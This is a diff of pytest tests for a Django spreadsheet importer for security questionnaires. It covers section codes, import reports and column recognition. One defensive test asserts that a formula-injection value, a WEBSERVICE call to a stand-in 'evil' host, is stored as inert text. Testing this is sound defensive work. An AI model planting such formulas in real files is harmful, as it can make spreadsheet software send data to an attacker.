@@ -7,7 +7,8 @@ import json
 import zipfile
 
 import pytest
-from django.core.management import CommandError, call_command
+from django.core.management import call_command
+from django.utils import translation
 from openpyxl import Workbook
 
 from questionnaires.models import QuestionnaireTemplate
@@ -16,6 +17,7 @@ from questionnaires.xlsx_import import (
     Mapping,
     SpreadsheetRefused,
     import_spreadsheet,
+    import_with_report,
     inspect_workbook,
 )
 from questionnaires.yaml_io import QuestionnaireFileError
@@ -126,7 +128,13 @@ def test_caiq_style_sheet_imports(db):
     assert codes == ["A-A-01.1", "A-A-02.1", "IAM-14.1"]
     assert set(template.questions.values_list("answer_type", flat=True)) == {"yes_no"}
     assert all(template.questions.values_list("na_allowed", flat=True))
-    assert [s.code for s in template.sections.all()] == ["A", "IAM"]
+    # The section comes from the original code's prefix (A&A), normalised only in its code.
+    assert [(s.code, s.title_en) for s in template.sections.all()] == [
+        ("A-A", "A&A"),
+        ("IAM", "IAM"),
+    ]
+    # The original codes are kept, as free-text references.
+    assert template.questions.get(code="A-A-01.1").references == ["TEXT:A&A-01.1"]
 
 
 def test_errors_name_sheet_row_and_column():
@@ -159,7 +167,7 @@ def test_unknown_sheet_and_column():
         )
 
 
-def test_formulas_are_not_evaluated(db):
+def test_formulas_are_kept_as_inert_text_never_evaluated(db):
     wb = Workbook()
     ws = wb.active
     ws.title = "S"
@@ -168,12 +176,18 @@ def test_formulas_are_not_evaluated(db):
     ws.append(["Gewone vraag", "Ja/Nee"])
     out = io.BytesIO()
     wb.save(out)
-    data, _ = import_spreadsheet(
-        out.getvalue(), Mapping.from_dict({"sheet": "S", "columns": {"text": "A", "answers": "B"}})
-    )
+    with translation.override("en"):
+        data, report = import_with_report(
+            out.getvalue(),
+            Mapping.from_dict({"sheet": "S", "columns": {"text": "A", "answers": "B"}}),
+        )
+        summary = report.summary()
     texts = [q["text"]["nl"] for s in data["sections"] for q in s["questions"]]
-    # A formula has no cached value in a file written by a library: it is skipped, never run.
-    assert texts == ["Gewone vraag"]
+    # Never run, never dropped: the formula is text with the apostrophe exports use.
+    assert texts == ['\'=WEBSERVICE("http://evil")', "Gewone vraag"]
+    assert [(r.row, r.status) for r in report.rows] == [(2, "warning"), (3, "imported")]
+    assert "formula" in report.rows[0].messages[0]
+    assert summary == "2 rows: 1 imported, 1 imported with a warning"
 
 
 def test_oversized_file_refused():
@@ -239,9 +253,10 @@ def test_import_command_with_mapping(db, tmp_path):
     assert QuestionnaireTemplate.objects.get(key="caiq-lite").questions.count() == 3
 
 
-def test_import_command_xlsx_without_mapping(db, tmp_path):
+def test_import_command_xlsx_without_mapping_recognises_the_columns(db, tmp_path, capsys):
     sheet = tmp_path / "caiq.xlsx"
     sheet.write_bytes(CAIQ)
-    with pytest.raises(CommandError, match="--mapping"):
-        call_command("import_questionnaire", str(sheet))
-    assert not QuestionnaireTemplate.objects.exists()
+    call_command("import_questionnaire", str(sheet))
+    assert '"code": "Question ID"' in capsys.readouterr().out
+    template = QuestionnaireTemplate.objects.get(key="caiq")
+    assert template.questions.filter(answer_type="yes_no", na_allowed=True).count() == 3
